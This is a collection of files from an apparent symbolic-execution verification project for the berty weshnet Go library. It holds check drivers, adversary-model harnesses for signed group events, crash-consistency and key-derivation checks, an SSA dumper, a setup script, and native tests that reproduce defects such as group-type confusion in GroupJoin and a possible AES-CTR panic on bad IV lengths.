        cls = (v.get('msg'), (v.get('job') or '').split('(')[0], v.get('pos'))
        if cls in seen_cls:
            continue
        seen_cls.add(cls)
        uniq.append(v)
    suppressed = len(violations) - len(uniq)
    violations = uniq[:12]
    for i, v in enumerate(violations):
        rp = os.path.join(REPLAY_DIR, '%s-%s-%d.json' % (pid, tier_name, i))
        rec = {'property': pid, 'job': v.get('job'), 'assertion': v.get('msg'), 'pos': v.get('pos'), 'model': v.get('model'),
               'decisions': v.get('path'), 'gotrace': v.get('gotrace'), 'replayed': None}
        if replayer:
            try:
                rec['replayed'] = replayer(check, v, rp)
            except Exception as ex:
                rec['replayed'] = {'status': 'error', 'detail': str(ex)}
        with open(rp, 'w') as f:
            json.dump(rec, f, indent=1, default=str)
        v['replay'] = rp
        v['replayed'] = rec['replayed']
        reported.append(v)

    funcs = {}
    contracts = set()
    for r in results:
        funcs.update(r['funcs'])
        contracts.update(r['contracts'])
    wes = {k: h for k, h in funcs.items() if MOD in k and 'verif' not in k.lower() and 'Verif' not in k}
    nontriv = sum(r['obligations'] - r['trivial'] for r in results if not r['witness'])
    total_ob = sum(r['obligations'] for r in results if not r['witness'])
    disch = sum(r['discharged'] for r in results if not r['witness'])
    samples = []
    for r in results:
        for s in r['samples'][:1]:
            samples.append(s)
    samples = samples[:6] or [{'note': 'no obligations reached'}]
    ev = {
        'property_id': pid, 'tier': tier_name, 'seed': seed(), 'level': 'other',
        'coverage': {
            'explanation': explanation,
            'evaluations': max(1, total_ob),
            'distinct_nontrivial': max(0, nontriv),
            'rule': 'one evaluation = one assertion instance on one symbolic path, decided by z3 over ALL values of the '
                    'symbolic inputs of that path; non-trivial = deciding it needed the solver: either the assertion itself was a '
                    'solver query, or the path it sits on was selected by at least one solver-decided branch',
            'obligations': total_ob, 'discharged': disch,
            'paths': sum(r['paths'] for r in results), 'jobs': len(results),
            'queries': sum(r['queries'] for r in results),
            'solver_seconds': {'z3-5.1.0': round(sum(r['solver_s'] for r in results), 2),
                               'cvc5-1.0': cross['cvc5']['seconds'], 'z3-4.8.12': cross['z3-4.8.12']['seconds']},
            'cross_check': {k: v for k, v in cross.items() if k != 'disagreements'},
            'functions_encoded': [{'name': k, 'src_sha256_8': h} for k, h in sorted(wes.items())],
            'other_functions_executed': len(funcs) - len(wes),
            'contracts_used': sorted(contracts),
            'bounds': bounds,
            'unwinding_failures': sum(len(r['unwind']) for r in results),
            'inconclusive': inconclusive[:20],
            'witnesses': [{'job': r['label'], 'reached': bool(r['violations'])} for r in results if r['witness']],
            'reached': {k: v for r in results for k, v in r['reached'].items()},
            'jobs_detail': [{'job': r['label'], 'paths': r['paths'], 'obligations': r['obligations'],
                             'discharged': r['discharged'], 'violations': len(r['violations']), 'wall_s': round(r['wall'], 2)}
                            for r in results],
            'samples': samples,
            'trusted_base': trusted,
            'known_findings_matched': [k['id'] for k, _ in known_hits],
            'frontend_seconds': round(getattr(check.prog, 'frontend_seconds', 0), 2),
        },
        'assumptions': assumptions,
        'wall_s': round(time.time() - check.t0, 2),
        'violations': len(reported),
    }
    if extra:
        ev['coverage'].update(extra)
    with open(os.path.join(EVIDENCE_DIR, '%s.json' % pid), 'w') as f:
        json.dump(ev, f, indent=1, default=str)

    for r in results:
        print('  job %-40s paths=%-5d obligations=%-5d discharged=%-5d violations=%d inconclusive=%d %.1fs' % (
            r['label'], r['paths'], r['obligations'], r['discharged'], len(r['violations']), len(r['inconclusive']) + len(r['unwind']), r['wall']))
    seen = set()
    for k, v in known_hits:
        if k['id'] in seen:
            continue
        seen.add(k['id'])
        print('KNOWN-FINDING: property=%s %s' % (pid, k['what']))
    code = 0
    if reported:
        for v in reported:
            print('VIOLATION property=%s replay=%s' % (pid, v['replay']))
            print('  assertion: %s  job=%s pos=%s' % (v.get('msg'), v.get('job'), v.get('pos')))
            print('  model: %s' % json.dumps(v.get('model'), default=str)[:600])
            if v.get('replayed'):
                print('  native replay: %s' % json.dumps(v['replayed'], default=str)[:300])
        code = 1
    elif inconclusive:
        shown = set()
        for m in inconclusive:
            key = m.split(': ', 1)[-1][:120]
            if key in shown:
                continue
            shown.add(key)
            if len(shown) > 8:
                break
            print('INCONCLUSIVE property=%s %s' % (pid, m[:900]))
        code = 2
    print('%s %s: obligations=%d discharged=%d paths=%d queries=%d wall=%.1fs -> exit %d' % (
        pid, tier_name, total_ob, disch, ev['coverage']['paths'], ev['coverage']['queries'], ev['wall_s'], code))
    check.cleanup()
    sys.exit(code)
