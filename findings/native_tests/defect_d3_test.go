package weshnet

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

func TestD3_GroupJoinAcceptsNonMultiMemberType(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	peers, _, cleanup := CreatePeersWithGroupTest(ctx, t, "/tmp/d3_member_test", 1, 1)
	defer cleanup()

	api := ipfsAPIUsingMockNet(ctx, t)

	ownCG, err := peers[0].DB.openAccountGroup(ctx, nil, api)
	require.NoError(t, err)
	ms := ownCG.MetadataStore()

	for _, typ := range []protocoltypes.GroupType{
		protocoltypes.GroupType_GroupTypeContact,
		protocoltypes.GroupType_GroupTypeAccount,
		protocoltypes.GroupType_GroupTypeUndefined,
		protocoltypes.GroupType(42),
	} {
		g, _, err := NewGroupMultiMember()
		require.NoError(t, err)
		g.GroupType = typ // re-type; signature (over Secret by PublicKey) stays valid
		require.NoError(t, g.IsValid(), "IsValid does not look at GroupType")

		before := len(ms.ListMultiMemberGroups())
		op, err := ms.GroupJoin(ctx, g)
		after := ms.ListMultiMemberGroups()

		found := false
		for _, lg := range after {
			if string(lg.PublicKey) == string(g.PublicKey) {
				found = true
				t.Logf("type=%v: GroupJoin err=%v op!=nil=%v; ListMultiMemberGroups %d -> %d, listed with GroupType=%v",
					typ, err, op != nil, before, len(after), lg.GroupType)
			}
		}
		if !found {
			t.Logf("type=%v: GroupJoin err=%v; not listed (%d -> %d)", typ, err, before, len(after))
		}
		if err == nil && found {
			t.Errorf("DEFECT: GroupJoin accepted an invitation with GroupType=%v and indexed it as a joined multi-member group", typ)
		}
	}

	// count AccountGroupJoined events actually appended to the log
	n := 0
	evts, err := ms.ListEvents(ctx, nil, nil, false)
	require.NoError(t, err)
	for e := range evts {
		if e.Metadata.EventType == protocoltypes.EventType_EventTypeAccountGroupJoined {
			n++
		}
	}
	t.Logf("AccountGroupJoined events in the account metadata log: %d", n)
}

// Same through the public gRPC API.
func TestD3_ServiceMultiMemberGroupJoin(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	tp, cleanup := NewTestingProtocol(ctx, t, nil, nil)
	defer cleanup()

	g, _, err := NewGroupMultiMember()
	require.NoError(t, err)
	g.GroupType = protocoltypes.GroupType_GroupTypeContact

	_, err = tp.Client.MultiMemberGroupJoin(ctx, &protocoltypes.MultiMemberGroupJoin_Request{Group: g})
	t.Logf("MultiMemberGroupJoin(GroupType=Contact) err=%v", err)

	svc := tp.Service.(*service)
	listed := false
	for _, lg := range svc.getAccountGroup().MetadataStore().ListMultiMemberGroups() {
		if string(lg.PublicKey) == string(g.PublicKey) {
			listed = true
			t.Logf("listed in ListMultiMemberGroups with GroupType=%v", lg.GroupType)
		}
	}
	if err == nil && listed {
		t.Errorf("DEFECT: service.MultiMemberGroupJoin accepted a GroupTypeContact invitation")
	}

	_, err = tp.Client.ActivateGroup(ctx, &protocoltypes.ActivateGroup_Request{GroupPk: g.PublicKey})
	t.Logf("ActivateGroup on the re-typed group: err=%v", err)
	info, err := tp.Client.GroupInfo(ctx, &protocoltypes.GroupInfo_Request{GroupPk: g.PublicKey})
	if err == nil {
		t.Logf("GroupInfo: GroupType=%v", info.Group.GroupType)
	} else {
		t.Logf("GroupInfo err=%v", err)
	}
}
