#!/usr/bin/env python3
"""C11: both sides derive the same keys (contact groups, member keys, imported accounts); C12 identity-in-group part."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto
import c01


def main():
    t = tier()
    chk = Check('C11', c01.PKGS, 'pkg/secretstore',
                ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C11/zz_verif_c11.go'],
                installers=[crypto.install, crypto.install_proto], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    P = MOD + '/pkg/secretstore.'
    chk.load([P + n for n in ('VerifC11Symmetry', 'VerifC11Devices', 'VerifC11ImportGuards', 'VerifC11Isolation', 'VerifC11Witness')])
    cfg = {'timeout_ms': 60000, 'unwind': 12}
    jobs = [Job(P + 'VerifC11Symmetry', (0,), cfg=cfg), Job(P + 'VerifC11Symmetry', (1,), cfg=cfg),
            Job(P + 'VerifC11Devices', (0,), cfg=cfg), Job(P + 'VerifC11Devices', (1,), cfg=cfg)]
    for sc in range(6):
        jobs.append(Job(P + 'VerifC11ImportGuards', (sc,), cfg=cfg))
    for o in (0, 1):
        jobs.append(Job(P + 'VerifC11Isolation', (o,), cfg=cfg))
    jobs.append(Job(P + 'VerifC11Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of contactGroupPrivateKey / getOrComputeECDH / getKeysForGroupOfContact / getGroupForContact / '
                       'computeMemberKeyForMultiMemberGroup / getOrGenerateDeviceKeyForMultiMemberGroup / memberDeviceForGroup / '
                       'restoreAccountKeys / Export-ImportAccountKeys over the term algebra: account keys are fresh atoms (i.e. arbitrary '
                       'distinct keys), X25519 is a free symmetric function, HKDF/Ed25519 key construction are injective constructors, '
                       'so equality of derived keys is decided for ALL key values; import blobs are free byte strings.',
           bounds={'accounts': 3, 'devices_per_account': 2, 'call_orders': 'A first / B first; derive before or after export',
                   'outside': 'statistical independence of derived keys (only structural dependence is visible to a term model)'},
           assumptions=['honest scalars are not low-order', 'free-algebra KDF/ECDH', 'range over a Go map literal iterates in insertion order (restoreAccountKeys)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
