package weshnet

import (
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

type verifDevNamed interface{ GetDevicePk() []byte }

// required signer per event type, as stated by the property (independent of the code's table):
// 1 = device named inside the event, 2 = group key, 3 = member key over the device key AND the device key
func verifC03Required(et protocoltypes.EventType) int {
	switch et {
	case protocoltypes.EventType_EventTypeMultiMemberGroupInitialMemberAnnounced:
		return 2
	case protocoltypes.EventType_EventTypeGroupMemberDeviceAdded:
		return 3
	}
	return 1
}

// VerifC03Forge: for event type et, the envelope is a FREE byte string, the group secret is adversary-known.
// Exactly the keys the property requires as signers are honest and have signed nothing; every other key (group
// key, member key, other devices) is adversary-controlled. An accepted event therefore must never name an honest key.
// mode 0: device key D honest; mode 1: member key M honest (member-device announcement); group key honest iff required.
func VerifC03Forge(etn int32, mode int) {
	et := protocoltypes.EventType(etn)
	g, gsk, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	dsk, dpk := verifFreshKey()
	msk, mpk := verifFreshKey()
	dRaw, _ := dpk.Raw()
	mRaw, _ := mpk.Raw()
	req := verifC03Required(et)
	switch {
	case req == 2:
		verif_honestKey(gsk)
	case req == 3 && mode == 1:
		verif_honestKey(msk)
	default:
		verif_honestKey(dsk)
	}
	data := verif_anyBytesNonNil("envelope")
	meta, payload, err := openGroupEnvelope(g, data)
	if err != nil {
		return
	}
	verif_assume(meta.EventType == et)
	verif_reach("C03.forge.accepted")
	if req == 2 {
		verif_assert(false, "C03: an initial-member announcement is accepted only with a signature of the group key")
		return
	}
	named, ok := payload.(verifDevNamed)
	verif_assert(ok, "C03: device-signed event names its device")
	if !ok {
		return
	}
	if req == 3 && mode == 1 {
		mda, ok := payload.(*protocoltypes.GroupMemberDeviceAdded)
		verif_assert(ok, "C03: payload type matches the event type")
		if ok {
			verif_assert(!verif_bytesEq(mda.MemberPk, mRaw), "C03: a member-device announcement is accepted only with the member key's signature over the device key")
		}
		return
	}
	verif_assert(!verif_bytesEq(named.GetDevicePk(), dRaw), "C03: an event naming a device is accepted only with that device's signature over the payload")
}

// VerifC03Unknown: an unknown event type number is rejected.
func VerifC03Unknown() {
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	data := verif_anyBytesNonNil("envelope")
	meta, _, err := openGroupEnvelope(g, data)
	if err != nil {
		return
	}
	_, known := eventTypesMapper[meta.EventType]
	verif_assert(known, "C03: only mapped event types are ever accepted")
	verif_assert(meta.EventType >= 1 && meta.EventType <= 1001, "C03: accepted type numbers are protocol event types")
}

// VerifC03Honest: an event produced by the honest code path opens to the same type and payload (positive control),
// does not open under another group's secret, and a payload altered after signing is rejected.
func VerifC03Honest(kind int) {
	ctx := verif_background()
	ss := verifSecretStore("s")
	g, gsk, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	g2, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	md, err := ss.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	dRaw, _ := md.Device().Raw()
	mRaw, _ := md.Member().Raw()
	var env []byte
	var want proto.Message
	var et protocoltypes.EventType
	switch kind {
	case 0: // device-signed
		et = protocoltypes.EventType_EventTypeGroupMetadataPayloadSent
		ev := &protocoltypes.GroupMetadataPayloadSent{DevicePk: dRaw, Message: verif_anyBytesNonNil("app")}
		sig, err := signProtoWithDevice(ev, md)
		verif_assume(err == nil)
		env, err = sealGroupEnvelope(g, et, ev, sig)
		verif_assume(err == nil)
		want = ev
	case 1: // group-signed
		et = protocoltypes.EventType_EventTypeMultiMemberGroupInitialMemberAnnounced
		ev := &protocoltypes.MultiMemberGroupInitialMemberAnnounced{MemberPk: mRaw}
		sig, err := signProtoWithPrivateKey(ev, gsk)
		verif_assume(err == nil)
		env, err = sealGroupEnvelope(g, et, ev, sig)
		verif_assume(err == nil)
		want = ev
	default: // member + device
		et = protocoltypes.EventType_EventTypeGroupMemberDeviceAdded
		msig, err := md.MemberSign(dRaw)
		verif_assume(err == nil)
		ev := &protocoltypes.GroupMemberDeviceAdded{MemberPk: mRaw, DevicePk: dRaw, MemberSig: msig}
		sig, err := signProtoWithDevice(ev, md)
		verif_assume(err == nil)
		env, err = sealGroupEnvelope(g, et, ev, sig)
		verif_assume(err == nil)
		want = ev
	}
	_ = ctx
	meta, payload, err := openGroupEnvelope(g, env)
	verif_assert(err == nil, "C03.honest: correctly signed event is accepted")
	if err != nil {
		return
	}
	wb, _ := proto.Marshal(want)
	pb, _ := proto.Marshal(payload)
	verif_assert(meta.EventType == et && verif_bytesEq(wb, pb) && verif_bytesEq(meta.Payload, wb), "C03.honest: same type and payload")
	_, _, err = openGroupEnvelope(g2, env)
	verif_assert(err != nil, "C03.honest: does not open under another group's secret")
	verif_reach("C03.honest.ok")
}

// VerifC03Replay: the honest signers HAVE signed one genuine event, and that event was opened first (whatever the code
// remembers from it is in place). The adversary, who knows the group secret, then presents a free envelope: anything
// accepted that names an honest key carries exactly the payload that key signed -- an altered payload, a swapped signer
// field or a reused signature over other content is rejected.
func VerifC03Replay(kind int) {
	g, gsk, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	dsk, dpk := verifFreshKey()
	msk, mpk := verifFreshKey()
	dRaw, _ := dpk.Raw()
	mRaw, _ := mpk.Raw()
	var env []byte
	var et protocoltypes.EventType
	switch kind {
	case 0: // device-signed
		et = protocoltypes.EventType_EventTypeGroupMetadataPayloadSent
		ev := &protocoltypes.GroupMetadataPayloadSent{DevicePk: dRaw, Message: verif_anyBytesNonNil("app")}
		sig, err := signProtoWithPrivateKey(ev, dsk)
		verif_assume(err == nil)
		env, err = sealGroupEnvelope(g, et, ev, sig)
		verif_assume(err == nil)
	case 1: // group-signed
		et = protocoltypes.EventType_EventTypeMultiMemberGroupInitialMemberAnnounced
		ev := &protocoltypes.MultiMemberGroupInitialMemberAnnounced{MemberPk: mRaw}
		sig, err := signProtoWithPrivateKey(ev, gsk)
		verif_assume(err == nil)
		env, err = sealGroupEnvelope(g, et, ev, sig)
		verif_assume(err == nil)
	default: // member + device
		et = protocoltypes.EventType_EventTypeGroupMemberDeviceAdded
		msig, err := msk.Sign(dRaw)
		verif_assume(err == nil)
		ev := &protocoltypes.GroupMemberDeviceAdded{MemberPk: mRaw, DevicePk: dRaw, MemberSig: msig}
		sig, err := signProtoWithPrivateKey(ev, dsk)
		verif_assume(err == nil)
		env, err = sealGroupEnvelope(g, et, ev, sig)
		verif_assume(err == nil)
	}
	verif_honestKey(dsk)
	verif_honestKey(msk)
	verif_honestKey(gsk)
	meta0, _, err := openGroupEnvelope(g, env)
	verif_assert(err == nil && meta0 != nil, "C03.replay: the genuine event is accepted")
	if err != nil || meta0 == nil {
		return
	}
	data := verif_anyBytesNonNil("envelope")
	meta, payload, err := openGroupEnvelope(g, data)
	if err != nil {
		return
	}
	verif_reach("C03.replay.accepted")
	same := verif_bytesEq(meta.Payload, meta0.Payload)
	if meta.EventType == protocoltypes.EventType_EventTypeMultiMemberGroupInitialMemberAnnounced {
		verif_assert(same, "C03.replay: the group key signed one announcement only: another one is rejected")
		return
	}
	if mda, ok := payload.(*protocoltypes.GroupMemberDeviceAdded); ok && verif_bytesEq(mda.MemberPk, mRaw) {
		verif_assert(verif_bytesEq(mda.DevicePk, dRaw), "C03.replay: the member key endorsed one device only: another device is not attached to it")
	}
	if named, ok := payload.(verifDevNamed); ok && verif_bytesEq(named.GetDevicePk(), dRaw) {
		verif_assert(same, "C03.replay: an event naming the honest device carries exactly the payload that device signed")
	}
}

// VerifC03StateUnchanged: an entry whose envelope does not open leaves every index map empty.
func VerifC03StateUnchanged(gt int) {
	ss := verifSecretStore("s")
	var g *protocoltypes.Group
	var err error
	if gt == 1 {
		g, _, err = ss.GetGroupForAccount()
	} else {
		g, _, err = protocoltypes.NewGroupMultiMember()
	}
	verif_assume(err == nil)
	m := verifMetadataStore(ss, g)
	data := verif_anyBytesNonNil("envelope")
	_, _, err = openGroupEnvelope(g, data)
	verif_assume(err != nil)
	log := verif_newLog()
	verif_logAppend(log, data)
	idx := m.Index().(*metadataStoreIndex)
	verif_assert(idx.UpdateIndex(log, nil) == nil, "C03.state: index update tolerates a bad entry")
	verif_assert(len(idx.contacts) == 0 && len(idx.groups) == 0 && len(idx.members) == 0 && len(idx.devices) == 0 &&
		len(idx.admins) == 0 && len(idx.sentSecrets) == 0 && idx.contactRequestEnabled == nil && idx.contactRequestSeed == nil &&
		len(idx.verifiedCredentials) == 0 && len(idx.contactsFromGroupPK) == 0, "C03.state: a rejected event leaves the state unchanged")
	verif_reach("C03.state.ok")
}

func VerifC03Witness() {
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	data := verif_anyBytesNonNil("envelope")
	_, _, err = openGroupEnvelope(g, data)
	if err == nil {
		verif_assert(false, "C03.witness: reachable")
	}
}
