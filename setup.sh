#!/bin/sh
# Offline build of the verification machinery (MANIFEST.setup_cmd).
set -e
cd "$(dirname "$0")"
export GOFLAGS=-mod=mod GOPROXY=off
mkdir -p bin evidence replays
(cd engine/ssadump && GOTOOLCHAIN=local go1.26.8 build -o ../../bin/ssadump .)
# warm the export-data/build cache of the repository under test (first run after a restore takes minutes)
(cd /repo && go build ./... >/dev/null 2>&1 || true)
(cd /repo && go vet -vettool=/bin/true ./... >/dev/null 2>&1 || true)
python3-vt -m compileall -q engine checks >/dev/null 2>&1 || true
echo setup done
