package notify

import (
	"context"
	"sync"
)

func verif_quiesce()                                                               { panic("intrinsic") }
func verif_cancelCtx(parent context.Context) (context.Context, context.CancelFunc) { panic("intrinsic") }
func verif_parkedCount() int                                                       { panic("intrinsic") }

// VerifC16NotifyCoop: the contract of VerifC16Notify under the symbolic scheduler inside the interpreter (DESIGN 4b).
// mode 0: the broadcaster sets the state and broadcasts while holding the locker; mode 1: it broadcasts after releasing
// it. At quiescence nobody is blocked, every waiter has seen the new state unless it was cancelled, and only a
// cancelled wait returned false.
func VerifC16NotifyCoop(waiters, mode, withCancel int) {
	var mu sync.Mutex
	n := New(&mu)
	state := 0
	ctx, cancel := verif_cancelCtx(verif_ctx(false))
	done := 0
	for w := 0; w < waiters; w++ {
		verif_go("waiter", func() {
			n.L.Lock()
			ok := true
			for state == 0 && ok {
				ok = n.Wait(ctx)
			}
			n.L.Unlock()
			if !ok {
				verif_assert(withCancel == 1, "C16.notify: a cancelled wait (and only that) returns false")
			}
			done++
		})
	}
	verif_go("broadcaster", func() {
		n.L.Lock()
		state = 1
		if mode == 0 {
			n.Broadcast()
			n.L.Unlock()
		} else {
			n.L.Unlock()
			n.Broadcast()
		}
	})
	if withCancel == 1 {
		verif_go("canceller", func() { cancel() })
	}
	verif_quiesce()
	verif_assert(verif_parkedCount() == 0, "C16.notify: no waiter stays asleep after the broadcast (no missed wake-up, no deadlock)")
	verif_assert(done == waiters, "C16.notify: every waiter returned")
	verif_reach("C16.notifycoop.ok")
}
