#!/usr/bin/env python3
"""C10: a crash at any write leaves the secret store consistent and usable (crash index as a solver variable)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto
import c01, c02


def main():
    t = tier()
    chk = Check('C10', c01.PKGS, 'pkg/secretstore',
                ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C10/zz_verif_c10.go'],
                installers=[crypto.install, crypto.install_proto, c02.install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    P = MOD + '/pkg/secretstore.'
    chk.load([P + n for n in ('VerifC10Receive', 'VerifC10Send', 'VerifC10Keys', 'VerifC10Witness')])
    cfg = {'timeout_ms': 120000, 'unwind': 24, 'dec_as_term': True}
    jobs = [Job(P + 'VerifC10Receive', (0,), cfg=cfg, max_paths=200000), Job(P + 'VerifC10Receive', (1,), cfg=cfg, max_paths=200000),
            Job(P + 'VerifC10Send', (), cfg=cfg, max_paths=200000), Job(P + 'VerifC10Keys', (), cfg=cfg, max_paths=200000),
            Job(P + 'VerifC10Witness', (), witness=True, cfg=cfg, max_paths=200000)]
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of the receive, send and key-creation workloads of the secret store with the crash point as a solver '
                       'variable (DESIGN section 5): a free integer kappa masks every datastore / keystore mutation issued after it '
                       '(ds\' = ite(i < kappa, store(ds, k, v), ds); a batch commit is one mutation), so one symbolic run covers every crash point '
                       'and "no crash"; then a new secretStore is built on the surviving arrays and the post-crash obligations are asserted '
                       '(reopen by CID, still openable, no counter reuse across the restart, same keys).',
           bounds={'workloads': 'register+open m1,m2 (both orders); seal s1,s2 then s3 after restart; first use of account/member/device keys', 'window_N': 2,
                   'crash_points': 'every mutation of the workload and none (kappa free)', 'outside': 'torn single writes; non-batching datastores; longer workloads'},
           assumptions=['single Put/Delete and Batch.Commit are atomic and durable in order (badger)', 'the chain-key announcement is delivered again after a restart (metadata log replay)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
