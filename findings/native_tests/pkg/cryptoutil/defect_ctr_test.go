package cryptoutil

import "testing"

func TestC19_AESCTRStreamBadIV(t *testing.T) {
	key := make([]byte, 32)
	for _, n := range []int{0, 1, 15, 16, 17} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("DEFECT AESCTRStream(iv len=%d): PANIC: %v", n, r)
				}
			}()
			_, err := AESCTRStream(key, make([]byte, n))
			t.Logf("AESCTRStream(iv len=%d): no panic, err=%v", n, err)
		}()
	}
}
