// ssadump: front end of the wesym engine.
//
// Loads packages of the repository under test from its *current working tree*
// (plus overlay harness files), builds go/ssa with instantiated generics and
// writes, as one JSON document, every function reachable from the requested
// entry points that has a body, together with the type table and the method
// tables needed to dispatch interface calls.
//
// usage: ssadump -dir /repo -overlay overlay.json -entry 'pkg.Func,...' -out out.json pkg1 pkg2 ...
package main

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"os"
	"sort"
	"strings"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

type jInstr map[string]any

type jBlock struct {
	Index  int      `json:"i"`
	Instrs []jInstr `json:"ins"`
	Succs  []int    `json:"succs"`
	Preds  []int    `json:"preds"`
}

type jFunc struct {
	Name     string   `json:"name"`
	Pkg      string   `json:"pkg"`
	Params   []jParam `json:"params"`
	FreeVars []jParam `json:"freevars"`
	Results  []int    `json:"results"`
	Blocks   []jBlock `json:"blocks"`
	Recover  int      `json:"recover"`
	Pos      string   `json:"pos"`
	SrcHash  string   `json:"srchash"`
	Synth    string   `json:"synth,omitempty"`
	Variadic bool     `json:"variadic,omitempty"`
}

type jParam struct {
	Name string `json:"name"`
	Type int    `json:"t"`
}

type jType struct {
	ID      int               `json:"id"`
	Kind    string            `json:"kind"`
	Str     string            `json:"str"`
	Name    string            `json:"name,omitempty"`  // basic kind name or named type full name
	Elem    int               `json:"elem,omitempty"`  // pointer, slice, array, chan, map value, named underlying
	Key     int               `json:"key,omitempty"`   // map key
	Len     int64             `json:"len,omitempty"`   // array
	Fields  []jField          `json:"fields,omitempty"`
	Methods map[string]string `json:"methods,omitempty"` // method name -> function name (method set of this exact type)
	IMeths  []string          `json:"imeths,omitempty"`  // interface: method names
	Params  []int             `json:"sigparams,omitempty"`
	Results []int             `json:"sigresults,omitempty"`
	Dir     int               `json:"dir,omitempty"`
	Size    int64             `json:"size,omitempty"`
}

type jField struct {
	Name     string `json:"name"`
	Type     int    `json:"t"`
	Embedded bool   `json:"emb,omitempty"`
}

type jGlobal struct {
	Name string `json:"name"`
	Type int    `json:"t"` // pointee type
	Pkg  string `json:"pkg"`
}

type dumper struct {
	prog    *ssa.Program
	fset    *token.FileSet
	types   []*jType
	typeIdx map[string]int // keyed by types.Type string + identity fallbacks
	typeMap typeMapT
	funcs   map[string]*jFunc
	order   []string
	work    []*ssa.Function
	seen    map[*ssa.Function]bool
	globals map[string]*jGlobal
	rtTypes map[int]bool
	sizes   types.Sizes
	srcs    map[string][]byte
	nobody  map[string]bool
	bodyPkg map[string]bool
}

type typeMapT struct {
	m map[types.Type]int
}

func (d *dumper) typeID(t types.Type) int {
	if t == nil {
		return 0
	}
	if _, isAlias := t.(*types.Alias); isAlias {
		return d.typeID(types.Unalias(t))
	}
	if id, ok := d.typeMap.m[t]; ok {
		return id
	}
	key := types.TypeString(t, nil)
	// distinct struct types with same string are identical types anyway; named types have unique strings
	if id, ok := d.typeIdx[key]; ok {
		// guard: type params / local named types may share strings; accept.
		d.typeMap.m[t] = id
		return id
	}
	jt := &jType{ID: len(d.types) + 1, Str: key}
	d.types = append(d.types, jt)
	d.typeIdx[key] = jt.ID
	d.typeMap.m[t] = jt.ID
	func() {
		defer func() { recover() }()
		jt.Size = d.sizes.Sizeof(t)
	}()
	switch tt := t.(type) {
	case *types.Basic:
		jt.Kind = "basic"
		jt.Name = tt.Name()
	case *types.Pointer:
		jt.Kind = "pointer"
		jt.Elem = d.typeID(tt.Elem())
	case *types.Slice:
		jt.Kind = "slice"
		jt.Elem = d.typeID(tt.Elem())
	case *types.Array:
		jt.Kind = "array"
		jt.Elem = d.typeID(tt.Elem())
		jt.Len = tt.Len()
	case *types.Map:
		jt.Kind = "map"
		jt.Key = d.typeID(tt.Key())
		jt.Elem = d.typeID(tt.Elem())
	case *types.Chan:
		jt.Kind = "chan"
		jt.Elem = d.typeID(tt.Elem())
		jt.Dir = int(tt.Dir())
	case *types.Struct:
		jt.Kind = "struct"
		for i := 0; i < tt.NumFields(); i++ {
			f := tt.Field(i)
			jt.Fields = append(jt.Fields, jField{Name: f.Name(), Type: d.typeID(f.Type()), Embedded: f.Embedded()})
		}
	case *types.Tuple:
		jt.Kind = "tuple"
		for i := 0; i < tt.Len(); i++ {
			jt.Fields = append(jt.Fields, jField{Name: tt.At(i).Name(), Type: d.typeID(tt.At(i).Type())})
		}
	case *types.Signature:
		jt.Kind = "signature"
		for i := 0; i < tt.Params().Len(); i++ {
			jt.Params = append(jt.Params, d.typeID(tt.Params().At(i).Type()))
		}
		for i := 0; i < tt.Results().Len(); i++ {
			jt.Results = append(jt.Results, d.typeID(tt.Results().At(i).Type()))
		}
	case *types.Interface:
		jt.Kind = "interface"
		for i := 0; i < tt.NumMethods(); i++ {
			jt.IMeths = append(jt.IMeths, tt.Method(i).Name())
		}
	case *types.Named:
		jt.Kind = "named"
		jt.Name = key
		jt.Elem = d.typeID(tt.Underlying())
	case *types.Alias:
		jt.Kind = "named"
		jt.Name = key
		jt.Elem = d.typeID(types.Unalias(tt))
	case *types.TypeParam:
		jt.Kind = "typeparam"
	default:
		jt.Kind = "unknown"
	}
	return jt.ID
}

// addRuntimeType records a type that can be the dynamic type of an interface value
// and queues every method of its method set.
func (d *dumper) addRuntimeType(t types.Type) {
	id := d.typeID(t)
	if d.rtTypes[id] {
		return
	}
	d.rtTypes[id] = true
	if types.IsInterface(t) {
		return
	}
	jt := d.types[id-1]
	ms := d.prog.MethodSets.MethodSet(t)
	if ms.Len() > 0 {
		jt.Methods = map[string]string{}
	}
	for i := 0; i < ms.Len(); i++ {
		sel := ms.At(i)
		fn := d.prog.MethodValue(sel)
		if fn == nil {
			continue
		}
		jt.Methods[sel.Obj().Name()] = fn.String()
		d.enqueue(fn)
	}
}

func (d *dumper) enqueue(fn *ssa.Function) {
	if fn == nil || d.seen[fn] {
		return
	}
	d.seen[fn] = true
